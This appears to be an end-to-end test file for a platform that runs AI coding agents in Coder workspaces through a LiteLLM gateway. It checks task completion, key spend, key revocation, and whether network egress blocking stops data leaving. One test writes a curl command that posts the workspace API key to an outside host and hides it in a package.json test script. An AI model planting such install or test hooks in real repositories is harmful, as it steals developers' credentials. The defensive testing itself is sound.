import type { SettingsInput } from '../../../settings/schema';
import { costOf } from '../../contract/agents/support/cost';
import type { Recorded } from '../../contract/support/scripted-anthropic/scripted-anthropic';
import { TestPlatform } from '../support/platform';
import { prepareMachine, workspaceImage } from './machine';
import { CODER_TOKEN, StandIns } from './stand-ins';
import { canShapeNetworks, Outside } from './surroundings';
import { Template, type Workspace } from './template';

/**
 * The real clients at work in workspaces of the deployed platform, through their doors, LiteLLM and to a scripted provider;
 * what a repository can do with the key there; and what is left of a workspace that Coder has deleted.
 */
jest.setTimeout(15 * 60_000);

const AGENTS = ['roo-code', 'opencode', 'claude-code', 'codex', 'cline', 'kilo-code', 'copilot', 'aider'] as const;
const SCRIPT = 'start-workspace; exec sleep infinity';
const started = { CODER_AGENT_SCRIPT_linux_amd64: SCRIPT, CODER_AGENT_SCRIPT_linux_arm64: SCRIPT };
const KEY_FILE = '/home/coder/.config/litellm/key';

let platform: TestPlatform;
let standIns: StandIns;
let open: Template;
let sealed: Template;
const workspaces = new Map<string, Workspace>();
const expected = new Map<string, number>();

beforeAll(async () => {
  const machine = prepareMachine();
  const image = workspaceImage();
  platform = await TestPlatform.open({ coder_token: CODER_TOKEN });
  standIns = new StandIns(platform.name);
  const settings = {
    name: platform.name,
    providers: { anthropic: { credentials: 'variable', api_base: standIns.anthropic } },
    coder: { url: standIns.coder, confirm_workspaces: true },
    workspace: { agents: [...AGENTS] },
  } satisfies SettingsInput;
  platform.configure(settings);
  platform.deploy();
  standIns.start(machine.images.node);
  const template = (egress: 'internet' | 'none') =>
    new Template(
      machine,
      { ...settings, workspace: { ...settings.workspace, egress }, images: { workspace: image } },
      platform.secrets.workspace_identity_secret,
    );
  open = template('internet');
  sealed = template('none');
});
afterAll(() => {
  open?.remove();
  sealed?.remove();
  standIns?.remove();
  platform?.close();
});

/** A workspace with one agent, ready to work in. */
function start(template: Template, agent: string, name: string): Workspace {
  const workspace = template.workspace({ name, owner: 'ann' });
  workspaces.set(name, workspace);
  standIns.tellCoder(workspace, 'start');
  workspace.start({ ai_assistant: agent }, started);
  workspace.exec(
    'bash',
    '-c',
    `for i in {1..120}; do [[ -r ${KEY_FILE} ]] && curl -fs http://127.0.0.1:13337/healthz >/dev/null && exit 0; sleep 0.5; done
     cat ~/.local/state/ai-gateway/start.log; exit 1`,
  );
  workspace.exec('bash', '-c', 'mkdir ~/project && cd ~/project && git init --quiet .');
  return workspace;
}

/** Output of a command as the person's own shell would run it, in the repository. */
const shell = (workspace: Workspace, command: string) =>
  workspace.exec('bash', '-lc', `cd ~/project && ${command} 2>&1`);

const keyOf = (workspace: Workspace) => shell(workspace, `cat ${KEY_FILE}`);

async function admin<T>(method: string, path: string, body?: object): Promise<T> {
  const response = await fetch(`${platform.provisionerUrl}/api/v1/admin${path}`, {
    method,
    headers: {
      authorization: `Bearer ${platform.secrets.provisioner_admin_token}`,
      connection: 'close',
      ...(body ? { 'content-type': 'application/json' } : {}),
    },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
  return (await response.json()) as T;
}

interface Keys {
  keys: { name: string; spend: number }[];
}

const TASK = 'Write hello to hello.txt';
const clients = [
  { name: 'opencode', agent: 'opencode', command: `opencode run '${TASK}'`, tools: true },
  { name: 'claude', agent: 'claude-code', command: `claude -p --permission-mode acceptEdits '${TASK}'`, tools: true },
  {
    name: 'codex',
    agent: 'codex',
    command: `codex exec --skip-git-repo-check --sandbox danger-full-access '${TASK}' </dev/null`,
    tools: true,
  },
  { name: 'cline', agent: 'cline', command: `cline '${TASK}'`, tools: true },
  { name: 'kilo', agent: 'kilo-code', command: `kilo run '${TASK}'`, tools: true },
  { name: 'copilot', agent: 'copilot', command: `copilot --allow-all-tools -p '${TASK}'`, tools: true },
  { name: 'aider', agent: 'aider', command: `aider --yes-always --message '${TASK}'`, tools: false },
  { name: 'sealed', agent: 'opencode', command: `opencode run '${TASK}'`, tools: true },
];

test.each(clients)('$agent does a task in its workspace, streamed ($name)', async ({ name, agent, command, tools }) => {
  const workspace = start(name === 'sealed' ? sealed : open, agent, name);
  await standIns.takeRequests();
  shell(workspace, command);
  expect(shell(workspace, 'cat hello.txt')).toBe('hello');

  const requests: Recorded[] = await standIns.takeRequests();
  if (tools) expect(requests.map(({ answer }) => answer)).toContain('200 tool_use');
  expect(requests.filter(({ body }) => body.stream).length).toBeGreaterThan(0);
  expect(JSON.stringify(requests.map(({ headers }) => headers))).not.toContain(keyOf(workspace));
  expected.set(`workspace-${workspace.id}`, costOf(requests));
});

test('the spend on each workspace’s key is right to the last digit', async () => {
  const rounded = (entries: Iterable<readonly [string, number]>) =>
    Object.fromEntries([...entries].map(([name, usd]) => [name, usd.toFixed(10)]));
  const spent = async () => rounded((await admin<Keys>('GET', '/keys')).keys.map(({ name, spend }) => [name, spend]));
  for (let tries = 0; tries < 60; tries += 1) {
    if (JSON.stringify(Object.values(await spent()).sort()) === JSON.stringify(Object.values(rounded(expected)).sort()))
      break;
    await new Promise((resolve) => setTimeout(resolve, 1000));
  }
  expect(await spent()).toEqual(rounded(expected));
  expect(Math.min(...expected.values())).toBeGreaterThan(0);
});

(canShapeNetworks ? test : test.skip)(
  'code of a repository that the person runs sends the key away, and with egress none it does not (skipped without root)',
  () => {
    const outside = new Outside();
    try {
      const theft = `curl --silent --max-time 5 --noproxy '*' --data @${KEY_FILE} http://${outside.target.join(':')}/`;
      const keys = ['opencode', 'sealed'].map((name) => {
        const workspace = workspaces.get(name) as Workspace;
        const manifest = JSON.stringify({ name: 'honest', version: '1.0.0', scripts: { test: `${theft}; true` } });
        shell(workspace, `cat >package.json <<'EOF'\n${manifest}\nEOF\nnpm test`);
        return keyOf(workspace);
      });
      expect(keys.map((key) => outside.received.includes(key))).toEqual([true, false]);
    } finally {
      outside.remove();
    }
  },
);

test('the key of a deleted workspace is dead after the reconciler, and those of the others are not', async () => {
  const [gone, stays] = ['claude', 'opencode'].map((name) => workspaces.get(name) as Workspace) as [
    Workspace,
    Workspace,
  ];
  const keys = [gone, stays].map(keyOf);
  const answers = () =>
    Promise.all(
      keys.map(async (key) => {
        const headers = { authorization: `Bearer ${key}`, connection: 'close' };
        return (await fetch(`${platform.gatewayUrl}/v1/models`, { headers })).status;
      }),
    );
  expect(await answers()).toEqual([200, 200]);
  gone.delete();
  standIns.tellCoder(gone, 'delete');
  for (let tries = 0; tries < 30 && (await answers())[0] === 200; tries += 1) {
    await admin('POST', '/reconcile', {});
    await new Promise((resolve) => setTimeout(resolve, 1000));
  }
  expect(await answers()).toEqual([401, 200]);
  const names = (await admin<Keys>('GET', '/keys')).keys.map(({ name }) => name);
  expect(names).not.toContain(`workspace-${gone.id}`);
  expect(names).toContain(`workspace-${stays.id}`);
});
